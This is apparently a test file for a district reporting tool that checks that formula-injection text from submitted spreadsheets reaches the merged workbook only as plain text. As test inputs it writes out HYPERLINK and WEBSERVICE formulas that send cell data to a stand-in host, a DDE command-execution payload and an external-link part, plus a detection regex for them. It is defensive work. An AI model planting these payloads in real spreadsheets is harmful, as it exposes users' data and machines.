/**
 * Formula injection: an inbox whose input cells hold texts that a spreadsheet would run (=, +, -, @,
 * HYPERLINK, a DDE command, WEBSERVICE, an external link), typed as text or as real formulas, and
 * files and sheets named so. Rolled up and written by the file shell, the district workbook holds
 * no formula that came from a unit — every <f> is one of DVCQ's own — and each such text that
 * reaches it is a text cell holding exactly what the unit typed.
 */
import JSZip from "jszip";
import { checkSources, type Source } from "../../src/domain/check/batch";
import { buildDistrictReport } from "../../src/domain/report";
import { rollUp } from "../../src/domain/rollup/rollup";
import { readWorkbookSnapshot, sourceFromRead } from "../../src/files/readXlsx";
import { writeWorkbook } from "../../src/files/writeXlsx";
import { catalogue, registry } from "../support/filled";
import { CLEAN_EVIDENCE, CLEAN_FIGURES, FIXTURE_YEAR } from "../support/fixtures";
import { cellOf, layoutOf, template } from "./cases";
import {
  CONTENT_TYPES,
  SHEET_PART,
  WORKBOOK_PART,
  WORKBOOK_RELS,
  editPart,
  escapeXml,
  pack,
  partsOf,
  replaceCell,
  styleOf,
} from "./package";

/** Texts a clerk (or someone in the clerk's place) may type, each one a formula to Excel or LibreOffice if written as a value. */
const TYPED = {
  plus: "+84 251 3741 234",
  minus: "- Báo cáo số 215/BC-UBND",
  equals: "=1+1",
  at: "@SUM(D24:D27)",
  hyperlink: '=HYPERLINK("http://evil.example/?q="&D24,"Bấm vào đây")',
  dde: "=cmd|' /C calc'!A0",
  webservice: '=WEBSERVICE("http://evil.example/?d="&D86)',
  externalLink: "='C:\\Users\\clerk\\[ngan-sach.xlsx]Sheet1'!$A$1",
  tabbed: "\t=1+1",
};
const EVIL = /evil\.example|cmd\||WEBSERVICE|HYPERLINK|\[ngan-sach|\[1\]/i;

/** A unit's filled template with cells replaced by formulas (and their cached results), as another program would save them. */
async function withFormulas(
  unitCode: string,
  cells: Record<string, string>,
  extra?: (xml: string) => string,
): Promise<Uint8Array> {
  let parts = await partsOf(await template(CLEAN_FIGURES, CLEAN_EVIDENCE, unitCode));
  parts = editPart(parts, SHEET_PART, (xml) =>
    Object.entries(cells).reduce((out, [code, inner]) => {
      const ref = cellOf(code, layoutOf(unitCode));
      return replaceCell(out, ref, `<c r="${ref}" s="${styleOf(out, ref)}"${inner}</c>`);
    }, xml),
  );
  if (extra) parts = editPart(parts, WORKBOOK_PART, extra);
  return pack(parts);
}

/** An external link part, as Excel writes one for a formula =[1]Sheet1!$A$1. */
async function withExternalLink(unitCode: string): Promise<Uint8Array> {
  const base = await partsOf(
    await withFormulas(unitCode, { "6.20": "><f>[1]Sheet1!$A$1</f><v>5</v>" }, (xml) =>
      xml.replace(
        "</definedNames>",
        '</definedNames><externalReferences><externalReference r:id="rIdExt1"/></externalReferences>',
      ),
    ),
  );
  let parts = editPart(base, WORKBOOK_RELS, (xml) =>
    xml.replace(
      "</Relationships>",
      '<Relationship Id="rIdExt1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>',
    ),
  );
  parts = editPart(parts, CONTENT_TYPES, (xml) =>
    xml.replace(
      "</Types>",
      '<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>',
    ),
  );
  parts.set(
    "xl/externalLinks/externalLink1.xml",
    Buffer.from(
      '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">' +
        '<externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames><sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1"><v>5</v></cell></row></sheetData></sheetDataSet></externalBook></externalLink>',
    ),
  );
  parts.set(
    "xl/externalLinks/_rels/externalLink1.xml.rels",
    Buffer.from(
      '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="file:///C:/Users/clerk/ngan-sach.xlsx" TargetMode="External"/></Relationships>',
    ),
  );
  return pack(parts);
}

interface InboxFile {
  name: string;
  bytes: Uint8Array;
  /** Texts of this file that the district workbook must show as typed, each in a cell of its own (its name, too, in the submissions sheet). */
  shows: string[];
}

async function inbox(): Promise<InboxFile[]> {
  const typedAsText = (unitCode: string, h8: string, h9: string, evidence: string): Promise<Uint8Array> =>
    template(
      { ...CLEAN_FIGURES, "0.8": h8, "0.9": h9, "2.2": TYPED.equals },
      { ...CLEAN_EVIDENCE, "1": evidence },
      unitCode,
    );
  return [
    {
      name: "DVCQ_2024_XA-XUAN-HOA.xlsx",
      bytes: await typedAsText("XA-XUAN-HOA", TYPED.plus, TYPED.minus, TYPED.hyperlink),
      shows: [TYPED.plus, TYPED.minus],
    },
    {
      name: "DVCQ_2024_XA-XUAN-BAC.xlsx",
      bytes: await typedAsText("XA-XUAN-BAC", TYPED.equals, TYPED.at, TYPED.dde),
      shows: [TYPED.equals, TYPED.at],
    },
    {
      name: "DVCQ_2024_XA-SUOI-CAT.xlsx",
      bytes: await typedAsText("XA-SUOI-CAT", TYPED.hyperlink, TYPED.dde, TYPED.webservice),
      shows: [TYPED.hyperlink, TYPED.dde],
    },
    {
      name: "DVCQ_2024_XA-XUAN-TAM.xlsx",
      bytes: await typedAsText("XA-XUAN-TAM", TYPED.webservice, TYPED.externalLink, TYPED.at),
      shows: [TYPED.webservice, TYPED.externalLink],
    },
    {
      // Real formulas in input cells, with the results another program cached.
      name: "DVCQ_2024_XA-BAO-HOA.xlsx",
      bytes: await withFormulas("XA-BAO-HOA", {
        "0.8":
          ' t="str"><f>HYPERLINK("http://evil.example/","Báo cáo số 9/BC-UBND")</f><v>Báo cáo số 9/BC-UBND</v>',
        "0.9": ` t="str"><f>${escapeXml("cmd|' /C calc'!A0")}</f><v>Trần Văn Bình</v>`,
        "1.1": '><f>WEBSERVICE("http://evil.example/?d=1")</f><v>12</v>',
      }),
      shows: ["Báo cáo số 9/BC-UBND", "Trần Văn Bình"],
    },
    { name: "DVCQ_2024_XA-XUAN-THO.xlsx", bytes: await withExternalLink("XA-XUAN-THO"), shows: [] },
    {
      // A tab before "=": the reader tidies it away, and what is left is still only text.
      name: `${TYPED.dde}.xlsx`,
      bytes: await typedAsText("XA-XUAN-PHU", TYPED.tabbed, "Lê Thị Hoa", "Báo cáo này"),
      shows: [TYPED.tabbed.trim()],
    },
    { name: `${TYPED.equals}.xlsx`, bytes: new Uint8Array([1, 2, 3]), shows: [] },
  ];
}

test("no unit's text or formula becomes a live formula in the district workbook; each reaches it as text", async () => {
  const files = await inbox();
  const sources: Source[] = [];
  for (const f of files) sources.push(sourceFromRead(f.name, await readWorkbookSnapshot(f.bytes)));
  const checked = checkSources(sources, catalogue, registry, { expectedYear: FIXTURE_YEAR });
  const rollup = rollUp(catalogue, registry, FIXTURE_YEAR, checked.submissions, checked.findings);
  const plans = buildDistrictReport(rollup, catalogue);
  const district = await writeWorkbook(plans.map((plan) => ({ plan, nameScope: "workbook" as const })));

  // The unit's formula was read for its result: the facts carry the cached text or number.
  const fact = (unitCode: string, code: string) =>
    rollup.facts.find((f) => f.unitCode === unitCode && f.code === code)?.value;
  expect([
    fact("XA-BAO-HOA", "0.8"),
    fact("XA-BAO-HOA", "0.9"),
    fact("XA-BAO-HOA", "1.1"),
    fact("XA-XUAN-THO", "6.20"),
  ]).toEqual(["Báo cáo số 9/BC-UBND", "Trần Văn Bình", 12, 5]);

  // Every <f> in the package is one DVCQ's plans hold; none names anything a unit typed.
  const ours = new Set(
    plans.flatMap((p) => p.cells.flatMap((c) => (c.formula ? [c.formula.replace(/^=/, "")] : []))),
  );
  const zip = await JSZip.loadAsync(district);
  const partNames = Object.keys(zip.files);
  expect(partNames.filter((n) => /externalLink|vbaProject|connections|queryTable/i.test(n))).toEqual([]);
  for (const name of partNames.filter((n) => /^xl\/worksheets\/.*\.xml$/.test(n))) {
    const xml = (await zip.file(name)?.async("string")) ?? "";
    const formulas = [...xml.matchAll(/<f(?: [^>]*)?>([^<]*)<\/f>/g)].map((m) => m[1] ?? "");
    for (const f of formulas) expect(ours).toContain(f.replace(/&quot;/g, '"').replace(/&amp;/g, "&"));
    expect(formulas.join("\n")).not.toMatch(EVIL);
    expect(xml).not.toMatch(/<hyperlink /);
  }

  // Each text reaches the workbook as a text cell holding exactly what was typed.
  const read = await readWorkbookSnapshot(district);
  if (!read.ok) throw new Error(read.detail);
  const textCells = read.workbook.sheets.flatMap((s) =>
    [...s.cells.values()]
      .filter((c) => c.formula === undefined && typeof c.value === "string")
      .map((c) => c.value as string),
  );
  for (const text of files.flatMap((f) => f.shows)) expect(textCells).toContain(text);
  for (const { name } of files) expect(textCells.some((value) => value.includes(name))).toBe(true);
});
